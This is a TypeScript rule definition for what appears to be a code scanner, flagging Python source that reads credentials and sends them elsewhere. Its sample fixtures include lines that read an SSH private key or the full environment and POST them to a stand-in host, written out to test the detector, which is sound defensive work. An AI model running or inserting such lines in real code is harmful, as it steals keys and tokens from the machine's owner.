// The rule for source that reads credentials and sends something.

import { defineRule } from '../../define-rule.ts';

export const sendsSecrets = defineRule({
  id: 'python/sends-secrets',
  title: 'Source reads credentials and sends them elsewhere',
  category: 'code-execution',
  severity: 'high',
  stability: 'stable',
  since: '0.1',
  cwe: [506, 200],
  owasp: ['ML06:2023', 'LLM03:2025', 'LLM04:2026'],
  atlas: ['AML.T0011.000', 'AML.T0037', 'AML.T0055'],
  tags: ['source', 'secrets', 'network'],
  message: '`{call}` in {where} {effect}',
  why: 'Keys and tokens of the machine are what malicious code takes first; whoever has them needs no further access.',
  fix: ['Do not run this file', 'Where it was run, replace every key and token of that machine'],
  falsePositives: 'Programs that upload their own configuration.',
  samples: {
    fires: [
      "python: import requests\nkey = open('/root/.ssh/id_rsa').read()\nrequests.post('http://192.0.2.1', data=key)",
      "python: import os, requests\nrequests.post('http://192.0.2.1', json=dict(os.environ))",
    ],
    silent: [
      "python: import os, requests\nrequests.get(u, headers={'Authorization': os.environ['TOKEN']})",
      'python: import os\nenvironment = dict(os.environ)',
      "python: key = open('/root/.ssh/id_rsa').read()",
    ],
  },
});
